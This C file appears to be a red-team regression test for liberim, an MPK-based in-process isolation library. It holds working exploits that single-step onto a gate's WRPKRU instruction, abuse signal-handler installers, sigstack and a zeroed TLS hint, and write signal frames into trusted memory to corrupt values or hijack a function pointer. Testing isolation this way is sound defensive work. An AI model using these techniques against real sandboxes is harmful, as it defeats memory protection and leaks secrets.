/* SPDX-License-Identifier: MIT */
/* rt_gatewin.c: red team 49 -- a signal frame written INTO trusted memory
 * on Linux 6.1 through the window after a gate's WRPKRU (written by the red
 * team against the previous liberim, where the attack worked on 6.1; kept
 * as its regression test: runtime/erim_sigstack.c now gives every thread a
 * signal stack of liberim's on 6.1 too, in untrusted memory, and every
 * handler SA_ONSTACK).
 *
 * security.md ("What each back end guarantees", first row and the row of
 * red team 15) says a signal frame written at an attacker-set %rsp is stopped
 * on 6.1 because "the hardware refuses the frame": the kernel writes the frame
 * with the interrupted PKRU, which for untrusted code denies the key.  But
 * untrusted code can be interrupted with the trusted PKRU in force and an
 * %rsp of its choice: it jumps, with RFLAGS.TF set, onto a gate's WRPKRU site
 * (liberim's .Lsite_gate_enter_mpk, found by scanning erim_gate_call's code),
 * with RSP = an address inside trusted globals, every general
 * register = the attacker's value, EAX = 0, ECX = EDX = 0.  The WRPKRU runs
 * (PKRU := 0), the single-step trap fires before the check after it, and the
 * kernel (6.1) writes the SIGTRAP frame -- every register, the attacker's --
 * below that %rsp, with PKRU 0 in force: into the trusted globals.  The
 * process dies afterwards (liberim's trampoline faults on the trusted stack
 * pointer), but a second thread that keeps asking the trusted side through a
 * gate sees the trusted value changed first (as red team 15's sigframe_write).
 *
 *   rt_gatewin mpk          ATTACK: TF + jump onto the gate's WRPKRU (expected
 *                             to WORK on 6.1, to be stopped on 6.12 by
 *                             liberim's signal stacks)
 *   rt_gatewin mpk nowrpkru CONTROL: the same TF + jump, same %rsp, same
 *                             registers, onto a NOP of the program instead of
 *                             the WRPKRU: the hardware refuses the frame
 *   rt_gatewin mpk exec     ATTACK, exec form: the trusted value overwritten
 *                             is a trusted function pointer that gw_hash calls;
 *                             the attacker's function then runs with the
 *                             trusted PKRU and reads the trusted secret
 *   rt_gatewin mpk exec nowrpkru  its CONTROL
 *   rt_gatewin mpk direct   control of the key: a plain untrusted load of
 *                             the balance is stopped
 *   rt_gatewin none nowrpkru control   CONTROL of the mechanism: without
 *                             keys the frame lands on the target (exit 0
 *                             when the write WORKED, 1 when it did not)
 *
 * Red team 50 (ownentry, the same window armed another way; it worked on
 * 6.1 and 6.12, uid 0 and 1000, before do_sigaction installed liberim's own
 * handlers as liberim does): liberim's own handler entry, as
 * sigaction(SIGSEGV, NULL, &old) reports it, handed back to sigaction() for
 * SIGTRAP WITHOUT SA_ONSTACK -- the kernel then entered it on the
 * interrupted %rsp, writing the frame there first.  The single step is armed
 * without POPF: an ordinary SIGUSR1 handler edits its ucontext (RIP = the
 * WRPKRU site, RSP = inside trusted globals, every register = the attacker's
 * value, EAX = ECX = EDX = 0, TF set) and returns through liberim's own
 * restorer.
 *   rt_gatewin mpk ownentry [exec]      ATTACK, write or exec target
 *   rt_gatewin mpk ownentry ownhandler  CONTROL: SIGTRAP's handler is the
 *                             attacker's own (liberim wraps it with
 *                             SA_ONSTACK): blocked by the relay
 *   ... uid1000               any of the above after dropping to uid 1000
 *
 * Red team 51 (it worked against the liberim of its round, 6.1 and 6.12):
 * glibc's other public names for the installers liberim interposes --
 * ssignal, __sysv_signal, __sigaction and the compatibility symbol sigvec --
 * installed the attacker's SIGTRAP handler unwrapped, without SA_ONSTACK,
 * and the ownentry window wrote its frame into trusted globals:
 *   rt_gatewin mpk ownentry install=ssignal|__sysv_signal|__sigaction|sigvec
 *                             ATTACK (SIGTRAP's handler: the attacker's own,
 *                             installed through that name); control:
 *                             ownhandler (sigaction, wrapped)
 *   rt_gatewin mpk ownentry install=raw  the same through a raw rt_sigaction
 *                             system call, which no library can see (nor a
 *                             racing thread rewriting a struct libc installs
 *                             from, red team 53): under erim-tem blocked by
 *                             its check at the signal's delivery; without
 *                             it, with "control", the frame lands (the
 *                             documented limit)
 * and glibc's sigstack() moved the kernel's signal stack -- the one every
 * handler of liberim's is entered on -- to end inside trusted globals; a
 * fault (a load from address 8, every register but %rsp the attacker's) then
 * had its frame written there (6.12: with every key enabled):
 *   rt_gatewin mpk sigstack [exec]       ATTACK
 *   rt_gatewin none sigstack control     CONTROL of the mechanism: without
 *                             keys the frame lands on the target
 * Red team 58 (alttls, 6.1 and 6.12, dynamic and static, stopped by
 * erim-tem): liberim's sigaltstack() interposer found the caller's stack of
 * liberim's through a TLS "hint"; with it zeroed (one store, no system call)
 * the request went to the kernel as it was.  It now asks the kernel:
 *   rt_gatewin mpk tlszero [exec]        ATTACK: sigstack after every byte
 *                             of liberim's TLS block of the thread is zeroed;
 *                             also fails when the kernel's signal stack ends
 *                             in the trusted globals afterwards
 *   rt_gatewin none tlszero control      CONTROL
 * Exit 0 when blocked (with "control": when it worked), 1 otherwise, 2 when
 * the program could not set itself up.
 * Prints "ATTACK WORKED" with the bytes, or "BLOCKED". */
#include <cpuid.h>
#include <dlfcn.h>
#include <grp.h>
#include <link.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <ucontext.h>
#include <unistd.h>

#include "erim.h"
#include "erim_check.h"
#include "hd_sigvec.h"
#include "gw_erim.h"
#include "gw_trusted.h"

#define INIT_BALANCE 1000u
#define ATTACK_VALUE 0x4141414141414141ull
#define SECRET 0x5345435245542d31ull   /* "1-TERCES" */
#define ATTEMPTS 10

/* ---- trusted side ---------------------------------------------------------- */

static ERIM_TRUSTED struct {
	uint64_t lo[128];
	volatile uint64_t balance;
	uint64_t hi[895];
} gw_t = { .balance = INIT_BALANCE };

static uint64_t mix(uint64_t x)
{
	x ^= x >> 33;
	x *= 0xff51afd7ed558ccdull;
	return x ^ (x >> 33);
}

static ERIM_TRUSTED struct {
	uint64_t secret;
	uint64_t lo[127];
	uint64_t (*volatile impl)(uint64_t);
	uint64_t hi[895];
} ge_t = { .secret = SECRET, .impl = mix };

uint64_t gw_get_impl(void)
{
	return gw_t.balance;
}

uint64_t gw_hash_impl(uint64_t x)
{
	return ge_t.impl(x);
}

/* ---- untrusted side -------------------------------------------------------- */

struct shared {
	volatile uint64_t seen, iters, leak, leak_pkru;
	volatile int ready, stop, fired, survived;
	volatile uint64_t target, rsp, site, entry, trap_flags, trap_handler;
	volatile int kstack_moved;
};
static struct shared *sh;
static int use_exec, use_nowrpkru, use_direct, use_control, use_ownentry, use_own, use_sigstack;
static int use_tlszero;
static const char *install_via;   /* install=NAME: SIGTRAP's handler through NAME */

static int ospke;

static uint64_t evil(uint64_t x)
{
	uint32_t eax = 0xffffffffu, edx;

	if (ospke)
		__asm__ volatile("rdpkru" : "=a"(eax), "=d"(edx) : "c"(0));
	sh->leak_pkru = eax;
	sh->leak = ge_t.secret;       /* a trusted global, read by untrusted code */
	sh->seen = 1;
	return x;
}

/* gw_fire(rip, rsp, v, eax): every general register := v (RSI := RSP, R11 :=
 * RIP), EAX := eax, ECX = EDX = 0; then RFLAGS.TF := 1 (POPF), RSP := rsp and
 * a jump to RIP.  With TF set every instruction traps: the traps after the
 * MOV to RSP and after the JMP go to the program's SIGTRAP handler on its own
 * (untrusted) sigaltstack, which returns unchanged; at the second it takes
 * SA_ONSTACK away, so the trap after the instruction at RIP -- the gate's
 * WRPKRU -- has its frame written below RSP.  (On real hardware one IRETQ
 * loads RIP, RSP and TF at once; QEMU's TCG performs IRETQ's stack reads from
 * user mode as supervisor accesses and panics the guest kernel under SMAP,
 * hence the two harmless traps.)  gw_resume: where a handler that returns
 * sends the thread back (none back end). */
uint64_t gw_saved_rsp;
void gw_fire(uint64_t rip, uint64_t rsp, uint64_t v, uint64_t eax);
void gw_resume(void);
void gw_land(void);
__asm__(".text\n\t.globl gw_fire\n\t.type gw_fire,@function\ngw_fire:\n\t"
        "push %rbx\n\tpush %rbp\n\tpush %r12\n\tpush %r13\n\tpush %r14\n\tpush %r15\n\t"
        "mov %rsp, gw_saved_rsp(%rip)\n\t"
        "mov %rdi, %r11\n\tmov %rcx, %rax\n\t"
        "mov %rdx, %rbx\n\tmov %rdx, %rbp\n\tmov %rdx, %rdi\n\t"
        "mov %rdx, %r8\n\tmov %rdx, %r9\n\tmov %rdx, %r10\n\t"
        "mov %rdx, %r12\n\tmov %rdx, %r13\n\tmov %rdx, %r14\n\tmov %rdx, %r15\n\t"
        "xorl %ecx, %ecx\n\txorl %edx, %edx\n\t"
        "pushfq\n\torq $0x100, (%rsp)\n\tpopfq\n\t"
        "mov %rsi, %rsp\n\t"
        "jmp *%r11\n\t.size gw_fire, .-gw_fire\n"
        ".globl gw_land\n\t.type gw_land,@function\ngw_land:\n\tnop\n\tnop\n\tud2\n"
        ".globl gw_resume\n\t.type gw_resume,@function\ngw_resume:\n\t"
        "mov gw_saved_rsp(%rip), %rsp\n\t"
        "pop %r15\n\tpop %r14\n\tpop %r13\n\tpop %r12\n\tpop %rbp\n\tpop %rbx\n\tret\n");

static volatile uint64_t fire_rip, fire_rsp, fire_val, fire_eax;

/* the last handler: back to gw_fire's caller, TF off (runs only where the
 * frame could be written: the none back end) */
static void on_trap(int sig, siginfo_t *si, void *ucv)
{
	ucontext_t *uc = ucv;

	(void)sig;
	(void)si;
	uc->uc_mcontext.gregs[REG_RIP] = (greg_t)(uintptr_t)gw_resume;
	uc->uc_mcontext.gregs[REG_EFL] &= ~(greg_t)0x100;
}

/* the first handler, on the sigaltstack: returns unchanged; when the thread
 * is about to run the instruction at RIP, the next trap goes to on_trap
 * without SA_ONSTACK */
static void on_step(int sig, siginfo_t *si, void *ucv)
{
	ucontext_t *uc = ucv;

	(void)sig;
	(void)si;
	if ((uint64_t)uc->uc_mcontext.gregs[REG_RIP] == fire_rip) {
		struct sigaction sa;

		memset(&sa, 0, sizeof sa);
		sa.sa_sigaction = on_trap;
		sa.sa_flags = SA_SIGINFO;
		sigaction(SIGTRAP, &sa, NULL);
	}
}

/* ownentry: SIGUSR1, an ordinary handler behind liberim's trampoline: it edits its
 * ucontext so that liberim's own restorer (rt_sigreturn) lands the thread on
 * the instruction at fire_rip with RSP = fire_rsp, every register = fire_val,
 * EAX = fire_eax, ECX = EDX = 0 and RFLAGS.TF set: one step, then a trap.
 * (No raw system call: the frame's PKRU stays the untrusted one, so the
 * trampoline's check after the handler passes.) */
static void on_usr1(int sig, siginfo_t *si, void *ucv)
{
	ucontext_t *uc = ucv;
	greg_t *g = uc->uc_mcontext.gregs;

	(void)sig;
	(void)si;
	g[REG_R8] = g[REG_R9] = g[REG_R10] = g[REG_R11] = (greg_t)fire_val;
	g[REG_R12] = g[REG_R13] = g[REG_R14] = g[REG_R15] = (greg_t)fire_val;
	g[REG_RDI] = g[REG_RSI] = g[REG_RBP] = g[REG_RBX] = (greg_t)fire_val;
	g[REG_RAX] = (greg_t)fire_eax;
	g[REG_RCX] = 0;
	g[REG_RDX] = 0;
	g[REG_RSP] = (greg_t)fire_rsp;
	g[REG_RIP] = (greg_t)fire_rip;
	g[REG_EFL] |= 0x100;
}

/* ownentry install=NAME: the attacker's SIGTRAP handler through one of
 * glibc's other names (hd_sigvec.h) */
void gw_restorer(void);
__asm__(".text\n\t.globl gw_restorer\n\t.type gw_restorer,@function\ngw_restorer:\n\t"
        "movq $15, %rax\n\tsyscall\n\t.size gw_restorer, .-gw_restorer\n");

static int install_trap(const char *via)
{
	void (*h)(int) = (void (*)(int))(void (*)(void))on_trap;
	struct sigaction sa;
	struct old_sigvec v = { h, 0, 0 };

	memset(&sa, 0, sizeof sa);
	sa.sa_sigaction = on_trap;
	sa.sa_flags = SA_SIGINFO;
	if (!strcmp(via, "ssignal"))
		return ssignal(SIGTRAP, h) == SIG_ERR ? -1 : 0;
	if (!strcmp(via, "__sysv_signal"))
		return __sysv_signal(SIGTRAP, h) == SIG_ERR ? -1 : 0;
	if (!strcmp(via, "__sigaction"))
		return __sigaction(SIGTRAP, &sa, NULL);
	if (!strcmp(via, "sigvec"))
		return libc_sigvec(SIGTRAP, &v, NULL);
	if (!strcmp(via, "raw")) {
		/* the raw system call (row "signal handlers installed behind
		 * liberim's back": a route only erim-tem closes) */
		struct {
			uintptr_t handler;
			unsigned long flags;
			uintptr_t restorer;
			uint64_t mask;
		} k = { (uintptr_t)on_trap, SA_SIGINFO | 0x04000000ul /* SA_RESTORER */,
		        (uintptr_t)gw_restorer, 0 };

		return (int)syscall(SYS_rt_sigaction, SIGTRAP, &k, NULL, 8);
	}
	return -1;
}

/* sigstack: the program's SIGSEGV handler (SA_ONSTACK); under none it runs
 * on the frame written over the target: it waits until the reader saw the
 * change, then ends the attempt */
static void on_segv(int sig)
{
	(void)sig;
	for (int i = 0; i < 2000000 && !sh->seen; i++)
		__asm__ volatile("pause");
	_exit(3);
}

/* sigstack tlszero (red team 58, alttls): liberim's sigaltstack() interposer
 * took the calling thread's stack from a TLS "hint"; zeroed, the request went
 * to the kernel.  Every byte of liberim's TLS block of this thread := 0,
 * whatever liberim keeps there now: no choice of its interposers may depend
 * on it.  0, or -1 when the block cannot be found. */
static const char *lib_name;
static void *tls_block;
static size_t tls_size;

static int tls_find(struct dl_phdr_info *info, size_t size, void *data)
{
	(void)size;
	(void)data;
	if (!info->dlpi_name || strcmp(info->dlpi_name, lib_name) != 0)
		return 0;
	for (int i = 0; i < info->dlpi_phnum; i++)
		if (info->dlpi_phdr[i].p_type == PT_TLS) {
			tls_size = info->dlpi_phdr[i].p_memsz;
			tls_block = info->dlpi_tls_data;
		}
	return 1;
}

static int zero_liberim_tls(void)
{
	Dl_info di;

	if (!dladdr((void *)erim_gate_call, &di) || !di.dli_fname)
		return -1;
	lib_name = di.dli_fname;
	dl_iterate_phdr(tls_find, NULL);
	if (!tls_block || !tls_size) {
		printf("rt_gatewin: liberim's TLS block not found (%s)\n", lib_name);
		return -1;
	}
	memset(tls_block, 0, tls_size);
	return 0;
}

/* ss_fire(v): every general register but %rsp := v, then a load from
 * address 8 */
uint64_t ss_saved_rsp;
void ss_fire(uint64_t v);
__asm__(".text\n\t.globl ss_fire\n\t.type ss_fire,@function\nss_fire:\n\t"
        "push %rbx\n\tpush %rbp\n\tpush %r12\n\tpush %r13\n\tpush %r14\n\tpush %r15\n\t"
        "mov %rsp, ss_saved_rsp(%rip)\n\t"
        "mov %rdi, %rax\n\tmov %rdi, %rbx\n\tmov %rdi, %rcx\n\tmov %rdi, %rdx\n\t"
        "mov %rdi, %rsi\n\tmov %rdi, %rbp\n\tmov %rdi, %r8\n\tmov %rdi, %r9\n\t"
        "mov %rdi, %r10\n\tmov %rdi, %r11\n\tmov %rdi, %r12\n\tmov %rdi, %r13\n\t"
        "mov %rdi, %r14\n\tmov %rdi, %r15\n\t"
        "movq 8, %r11\n\t"
        "mov ss_saved_rsp(%rip), %rsp\n\t"
        "pop %r15\n\tpop %r14\n\tpop %r13\n\tpop %r12\n\tpop %rbp\n\tpop %rbx\n\tret\n\t"
        ".size ss_fire, .-ss_fire\n");

static void *reader(void *arg)
{
	(void)arg;
	while (!sh->stop) {
		if (use_exec) {
			(void)gw_hash(sh->iters);
		} else {
			uint64_t v = gw_get();

			if (v != INIT_BALANCE && !sh->seen)
				sh->seen = v;
		}
		sh->iters++;
		if (sh->iters > 100)
			sh->ready = 1;
	}
	return NULL;
}

/* the gate's first WRPKRU: erim_gate_call dispatches to erim__gate_mpk, whose
 * entry (TLS hint, then ENTER_T) holds the first 0f 01 ef after it */
static uintptr_t find_site(void)
{
	const unsigned char *p = (const unsigned char *)(uintptr_t)erim_gate_call;

	for (int i = 0; i < 4096; i++)
		if (p[i] == 0x0f && p[i + 1] == 0x01 && p[i + 2] == 0xef)
			return (uintptr_t)(p + i);
	return 0;
}

static int child(void)
{
	pthread_t t;
	unsigned a, b, c, d;
	uint64_t target, fp, rsp, xsize, value, rip;

	if (erim_init(NULL) != 0) {
		fprintf(stderr, "erim_init failed: %s\n", erim_strerror());
		return 2;
	}
	printf("rt_gatewin: pkey %d, balance through the gate: %llu\n", erim_pkey(),
	       (unsigned long long)gw_get());
	fflush(stdout);
	if (pthread_create(&t, NULL, reader, NULL) != 0)
		return 2;
	while (!sh->ready)
		;
	if (!__get_cpuid_count(0xd, 0, &a, &b, &c, &d) || b == 0)
		return 2;
	xsize = b;
	ospke = __get_cpuid_count(7, 0, &a, &b, &c, &d) && (c & (1u << 4));
	if (use_exec) {
		target = (uint64_t)(uintptr_t)&ge_t.impl;
		value = (uint64_t)(uintptr_t)evil;
	} else {
		target = (uint64_t)(uintptr_t)&gw_t.balance;
		value = ATTACK_VALUE;
	}
	/* kernel's get_sigframe: below the 128-byte red zone the XSAVE image
	 * (xsize + 4, 64-aligned), below it the 440-byte rt_sigframe (16-aligned
	 * minus 8), r8..rbx at 48..136 from its start: put the target there */
	fp = (target + 288 + 64) & ~63ull;
	rsp = fp + 128 + xsize + 4;
	rip = use_nowrpkru ? (uint64_t)(uintptr_t)gw_land : (uint64_t)find_site();
	sh->target = target;
	sh->rsp = rsp;
	sh->site = rip;
	if (!rip)
		return 2;
	if (use_sigstack) {
		/* a signal stack ending at TOP: the XSAVE image at (TOP - xsize -
		 * 4) & ~63, the 440-byte frame below it, r8..rcx at 48..168 bytes
		 * from its start */
		uint64_t top = (fp + xsize + 4 + 1) & ~1ull;
		struct sigstack ss = { (void *)(uintptr_t)(top / 2), 0 };
		struct sigaction sa;

		sh->rsp = top;
		memset(&sa, 0, sizeof sa);
		sa.sa_handler = on_segv;
		sa.sa_flags = SA_ONSTACK;
		if (sigaction(SIGSEGV, &sa, NULL) != 0)
			return 2;
		if (use_tlszero && zero_liberim_tls() != 0)
			return 2;
		/* THE DECISIVE STEP: glibc converts it to ss_sp = P, ss_size = P */
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wdeprecated-declarations"
		if (sigstack(&ss, NULL) != 0)
			return 2;
#pragma GCC diagnostic pop
		{
			/* where the kernel's signal stack is now: inside the
			 * trusted globals is the attack's precondition met */
			stack_t cur;

			if (syscall(SYS_sigaltstack, NULL, &cur) == 0 && !(cur.ss_flags & SS_DISABLE) &&
			    (uint64_t)(uintptr_t)cur.ss_sp < top &&
			    (uint64_t)(uintptr_t)cur.ss_sp + cur.ss_size >= top)
				sh->kstack_moved = 1;
		}
		sh->fired = 1;
		ss_fire(value);
		sh->survived = 1;
		sh->stop = 1;
		pthread_join(t, NULL);
		return 0;
	}
	if (use_direct) {
		sh->seen = *(volatile uint64_t *)&gw_t.balance;
		sh->survived = 1;
		sh->stop = 1;
		pthread_join(t, NULL);
		return 0;
	}
	if (use_ownentry) {
		struct sigaction sa, cur;

		/* liberim's own handler entry, as sigaction() reports it for
		 * SIGSEGV (liberim's segv handler moved behind the entry) */
		memset(&cur, 0, sizeof cur);
		if (sigaction(SIGSEGV, NULL, &cur) != 0)
			return 2;
		sh->entry = (uint64_t)(uintptr_t)cur.sa_sigaction;
		memset(&sa, 0, sizeof sa);
		/* THE DECISIVE STEP: liberim's own entry handed back to sigaction()
		 * for SIGTRAP without SA_ONSTACK (the liberim of red team 50
		 * installed it unwrapped, with the caller's flags).  CONTROL
		 * (ownhandler): the attacker's own handler, which liberim
		 * installs with SA_ONSTACK. */
		sa.sa_sigaction = use_own ? on_trap : cur.sa_sigaction;
		sa.sa_flags = SA_SIGINFO;
		if (install_via ? install_trap(install_via) != 0 : sigaction(SIGTRAP, &sa, NULL) != 0)
			return 2;
		{
			struct sigaction k;

			memset(&k, 0, sizeof k);
			sigaction(SIGTRAP, NULL, &k);
			sh->trap_flags = (uint64_t)k.sa_flags;
			sh->trap_handler = (uint64_t)(uintptr_t)k.sa_sigaction;
		}
		memset(&sa, 0, sizeof sa);
		sa.sa_sigaction = on_usr1;
		sa.sa_flags = SA_SIGINFO;
		if (sigaction(SIGUSR1, &sa, NULL) != 0)
			return 2;
		fire_rip = rip;
		fire_rsp = rsp;
		fire_val = value;
		fire_eax = 0;
		sh->fired = 1;
		raise(SIGUSR1);
	} else {
		static char alt[65536] __attribute__((aligned(64)));
		stack_t ss = { .ss_sp = alt, .ss_size = sizeof alt, .ss_flags = 0 };
		struct sigaction sa;

		if (sigaltstack(&ss, NULL) != 0)
			return 2;
		memset(&sa, 0, sizeof sa);
		sa.sa_sigaction = on_step;
		sa.sa_flags = SA_SIGINFO | SA_ONSTACK;
		sigaction(SIGTRAP, &sa, NULL);
		fire_rip = rip;
		sh->fired = 1;
		gw_fire(rip, rsp, value, 0);
	}
	sh->survived = 1;
	for (int i = 0; i < 2000000 && !sh->seen; i++)
		__asm__ volatile("pause");
	sh->stop = 1;
	pthread_join(t, NULL);
	return 0;
}

static char errlog[65536];
static size_t errlen;

/* one attempt, in a child whose output (liberim's reports go to stderr) the
 * parent collects */
static void child_entry(void *arg)
{
	(void)arg;
	_exit(child());
}

int main(int argc, char **argv)
{
	struct sigaction sa;
	struct utsname u;
	int st = 0, worked;

	if (argc < 2) {
		fprintf(stderr, "usage: %s mpk|none [exec] [nowrpkru] [direct] [control] [ownentry] "
		        "[ownhandler] [install=NAME] [sigstack] [tlszero] [uid1000]\n", argv[0]);
		return 2;
	}
	setenv("ERIM_BACKEND", argv[1], 1);
	for (int i = 2; i < argc; i++) {
		if (!strcmp(argv[i], "exec"))
			use_exec = 1;
		else if (!strcmp(argv[i], "nowrpkru"))
			use_nowrpkru = 1;
		else if (!strcmp(argv[i], "direct"))
			use_direct = 1;
		else if (!strcmp(argv[i], "control"))
			use_control = 1;
		else if (!strcmp(argv[i], "ownentry"))
			use_ownentry = 1;
		else if (!strcmp(argv[i], "ownhandler"))
			use_ownentry = use_own = 1;
		else if (!strncmp(argv[i], "install=", 8))
			use_ownentry = 1, install_via = argv[i] + 8;
		else if (!strcmp(argv[i], "sigstack"))
			use_sigstack = 1;
		else if (!strcmp(argv[i], "tlszero"))
			use_sigstack = use_tlszero = 1;
		else if (!strcmp(argv[i], "uid1000")) {
			/* drop to an ordinary user first: nothing here needs root */
			if (setgroups(0, NULL) != 0 || setresgid(1000, 1000, 1000) != 0 ||
			    setresuid(1000, 1000, 1000) != 0)
				return 2;
		} else
			return 2;
	}
	uname(&u);
	printf("rt_gatewin: kernel %s, back end %s, uid %d, %s%s%s%s\n", u.release, argv[1],
	       (int)getuid(), use_exec ? "exec" : "write", use_nowrpkru ? ", CONTROL (no WRPKRU)" : "",
	       use_direct ? ", direct load" : "",
	       use_ownentry ? ", armed by a ucontext edit, SIGTRAP to liberim's own entry" : "");
	if (use_own)
		printf("rt_gatewin: CONTROL: the attacker's own SIGTRAP handler (liberim wraps it)\n");
	if (install_via)
		printf("rt_gatewin: SIGTRAP's handler: the attacker's own, installed with %s()\n",
		       install_via);
	if (use_sigstack)
		printf("rt_gatewin: the signal stack moved with sigstack()%s, then a load from "
		       "address 8\n", use_tlszero ? " after liberim's TLS was zeroed" : "");
	sh = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (sh == MAP_FAILED)
		return 2;
	(void)sa;
	for (int attempt = 1; attempt <= ATTEMPTS; attempt++) {
		memset((void *)sh, 0, sizeof *sh);
		st = check_child(child_entry, NULL, errlog, sizeof errlog);
		if (st == -1)
			return 2;
		errlen = strlen(errlog);
		printf("rt_gatewin: attempt %d: child %s %d; reader %llu gate calls; site %#llx "
		       "target %#llx rsp %#llx; survived %s; seen %#llx; liberim's entry %#llx; SIGTRAP "
		       "installed: handler %#llx flags %#llx\n", attempt,
		       WIFSIGNALED(st) ? "killed by signal" : "exited",
		       WIFSIGNALED(st) ? WTERMSIG(st) : WEXITSTATUS(st),
		       (unsigned long long)sh->iters, (unsigned long long)sh->site,
		       (unsigned long long)sh->target, (unsigned long long)sh->rsp,
		       sh->survived ? "yes" : "no", (unsigned long long)sh->seen,
		       (unsigned long long)sh->entry, (unsigned long long)sh->trap_handler,
		       (unsigned long long)sh->trap_flags);
		if (errlen)
			printf("rt_gatewin: child's output:\n%s", errlog);
		if (WIFEXITED(st) && WEXITSTATUS(st) == 2) {
			printf("rt_gatewin: the child could not set itself up\n");
			return 2;
		}
		if (sh->seen || use_direct)
			break;
	}
	if (use_direct) {
		printf("rt_gatewin: direct load %s (%#llx)\n",
		       sh->survived ? "READ the balance" : "BLOCKED", (unsigned long long)sh->seen);
		return sh->survived ? 1 : 0;
	}
	if (use_exec)
		worked = sh->leak == SECRET;
	else
		worked = sh->seen == ATTACK_VALUE;
	if (sh->kstack_moved) {
		printf("rt_gatewin: the kernel's signal stack now ends inside the trusted globals\n");
		worked = 1;
	}
	if (worked && use_exec)
		printf("rt_gatewin: ATTACK WORKED: the attacker's function ran with PKRU %#llx and "
		       "read the trusted secret %#llx\n", (unsigned long long)sh->leak_pkru,
		       (unsigned long long)sh->leak);
	else if (worked)
		printf("rt_gatewin: ATTACK WORKED: the trusted side returned %#llx (trusted memory "
		       "written)\n", (unsigned long long)sh->seen);
	else
		printf("rt_gatewin: BLOCKED (seen %#llx)\n", (unsigned long long)sh->seen);
	if (use_control)
		return worked ? 0 : 1;
	return worked ? 1 : 0;
}
